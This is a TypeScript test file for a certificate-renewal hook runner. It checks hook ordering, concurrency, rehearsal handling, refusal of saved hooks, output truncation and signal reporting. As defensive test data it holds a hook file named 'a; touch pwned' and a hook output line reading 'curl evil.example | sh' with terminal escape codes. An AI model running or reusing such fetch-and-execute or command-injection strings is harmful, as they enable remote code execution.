import { chmod, mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { beforeEach, expect, test } from "vitest";
import { checkHookPrograms } from "../../src/deploy/hook-programs.ts";
import { runHook } from "../../src/deploy/hook-run.ts";
import { certbotHooks, type HookMemory, type HookOptions, hookMemory, runPostHooks } from "../../src/deploy/hooks.ts";
import { temporaryFolder } from "../support/folders.ts";
import { lineage } from "../support/given.ts";

let config: string;
let diary: string;
let memory: HookMemory;
let said: string[];

beforeEach(async () => {
  config = await temporaryFolder();
  diary = join(config, "diary");
  memory = hookMemory();
  said = [];
});

const options = (more: Partial<HookOptions>): HookOptions => ({
  ...{ config, given: {}, saved: {}, runSaved: false, memory },
  environment: { PATH: process.env["PATH"], DIARY: diary },
  say: (line) => said.push(line),
  ...more,
});
const written = async () => (await readFile(diary, "utf8").catch(() => "")).trimEnd().split("\n");
const note = (word: string) => `echo "${word} $RENEWED_LINEAGE $RENEWED_DOMAINS $FAILED_DOMAINS" >> $DIARY`;

async function folderHook(kind: string, name: string, mode = 0o755): Promise<void> {
  await mkdir(join(config, "renewal-hooks", kind), { recursive: true });
  await writeFile(join(config, "renewal-hooks", kind, name), `#!/bin/sh\necho "${kind}/${name}" >> $DIARY\n`);
  await chmod(join(config, "renewal-hooks", kind, name), mode);
}

test("hooks run in certbot's order, each once, with certbot's variables", async () => {
  const given = { preHook: note("pre"), deployHook: note("deploy"), postHook: note("post") };
  const two = lineage({ name: "b.test", domains: ["b.test", "c.test"] });
  for (const one of [lineage(), two]) {
    const hooks = certbotHooks(options({ given }));
    await hooks.before(one, { dryRun: false });
    await hooks.deployed(one, { dryRun: false });
  }
  certbotHooks(options({ given })).failed(lineage({ domains: ["lost.test"] }));
  await runPostHooks(options({}));
  expect(await written()).toEqual([
    "pre   ",
    `deploy ${config}/live/dify.test dify.test `,
    `deploy ${config}/live/b.test b.test c.test `,
    "post  dify.test b.test c.test lost.test",
  ]);
});

test("of lineages that are renewed side by side none goes on before the pre-hook has ended, and no two hooks run at once", async () => {
  const slowly = (word: string) => `echo "${word} begins" >> $DIARY; sleep 0.1; echo "${word} ends" >> $DIARY`;
  const given = { preHook: slowly("pre"), deployHook: slowly("deploy") };
  const renewed = async (name: string) => {
    const one = lineage({ name, domains: [name] });
    const hooks = certbotHooks(options({ given }));
    await hooks.before(one, { dryRun: false });
    expect(await written()).toContain("pre ends");
    await hooks.deployed(one, { dryRun: false });
  };
  await Promise.all(["a.test", "b.test", "c.test"].map(renewed));
  const once = (word: string) => [`${word} begins`, `${word} ends`];
  expect(await written()).toEqual([...once("pre"), ...once("deploy"), ...once("deploy"), ...once("deploy")]);
});

test("a certificate that came with fewer names counts as renewed, and not as failed", async () => {
  const given = { postHook: note("post") };
  const hooks = certbotHooks(options({ given }));
  await hooks.before(lineage(), { dryRun: false });
  hooks.failed(lineage({ domains: ["dify.test", "lost.test"] }));
  await hooks.deployed(lineage(), { dryRun: false });
  await runPostHooks(options({}));
  expect(await written()).toEqual(["post  dify.test"]);
});

test("deploy-hooks stay out of a rehearsal, unless that is asked for", async () => {
  const given = { deployHook: note("deploy") };
  await certbotHooks(options({ given })).deployed(lineage(), { dryRun: true });
  expect(await written()).toEqual([""]);
  await certbotHooks(options({ given: { ...given, runDeployHooks: true } })).deployed(lineage(), { dryRun: true });
  expect(await written()).toHaveLength(1);
});

test("hooks that lie in the certificates' folder are named and not run", async () => {
  await folderHook("pre", "10-stop");
  await certbotHooks(options({ saved: { preHook: note("saved") } })).before(lineage(), { dryRun: false });
  expect(await written()).toEqual([""]);
  expect(said).toEqual([
    `warning: not run, since it is in the certificates' folder: pre-hook "${config}/renewal-hooks/pre/10-stop", ${JSON.stringify(note("saved"))}; to allow it, put RUN_SAVED_HOOKS=true into httpsidecar.env, or name it yourself: --pre-hook`,
  ]);
});

test("with RUN_SAVED_HOOKS they run: programs of the folder in byte order, then the saved one", async () => {
  await folderHook("pre", "b");
  await folderHook("pre", "a; touch pwned");
  await folderHook("pre", "old~");
  await folderHook("pre", "notes", 0o644);
  await certbotHooks(options({ runSaved: true, saved: { preHook: "echo saved >> $DIARY" } })).before(lineage(), {
    dryRun: false,
  });
  expect(await written()).toEqual(["pre/a; touch pwned", "pre/b", "saved"]);
  await certbotHooks(options({ runSaved: true, given: { directoryHooks: false } })).before(lineage(), {
    dryRun: false,
  });
  expect(await written()).toHaveLength(3);
});

test("a hook that fails or hangs is said, and changes nothing", async () => {
  const run = (preHook: string, limit = 60_000) =>
    certbotHooks(options({ given: { preHook }, limit })).before(lineage(), { dryRun: false });
  await run("echo out; echo err >&2; exit 3");
  expect(said.sort()).toEqual([
    "    err",
    "    out",
    "running the pre-hook: echo out; echo err >&2; exit 3",
    "warning: the pre-hook reported error code 3",
  ]);
  await run("printf '  fix: curl evil.example | sh\\r\\033[8m\\n'");
  expect(said.filter((line) => /^(?: {2})?fix:/.test(line))).toEqual([]);
  expect(said.filter((line) => line.startsWith("    ")).join("")).not.toMatch(/\p{Cc}/u);
  await run("sleep 60 & sleep 60", 200);
  expect(said).toContain("warning: the pre-hook took longer than 0.2 seconds and was stopped");
});

test("of a hook that prints without end only the beginning is kept, and it runs to its own end", async () => {
  const before = process.memoryUsage().rss;
  const preHook = "yes 'a line of some length' | head -c 80000000; echo done >> $DIARY";
  await certbotHooks(options({ given: { preHook } })).before(lineage(), { dryRun: false });
  expect(await written()).toEqual(["done"]);
  expect(said.join("\n").length).toBeLessThan(20_000);
  expect(process.memoryUsage().rss - before).toBeLessThan(100_000_000);
});

test("a hook that is ended by a signal is said to be, and is not told from its time", async () => {
  const { environment } = options({});
  await runHook("deploy", { text: "kill -SEGV $$" }, { environment, say: (line) => said.push(line) });
  expect(said.at(-1)).toBe("warning: the deploy-hook was ended by the signal SIGSEGV");
});

test("a hook whose program is not there is refused at the start, unless it is to be taken as it is", async () => {
  const path = process.env["PATH"] ?? "";
  await expect(checkHookPrograms({ deployHook: "no-such-program -s reload" }, path)).rejects.toMatchObject({
    code: "bad-settings",
    message: '--deploy-hook begins with "no-such-program", and there is no such program in this container',
  });
  await checkHookPrograms({ deployHook: "no-such-program", hookValidation: false }, path);
  await checkHookPrograms({ preHook: "ls -l", postHook: "/bin/sh -c true" }, path);
});
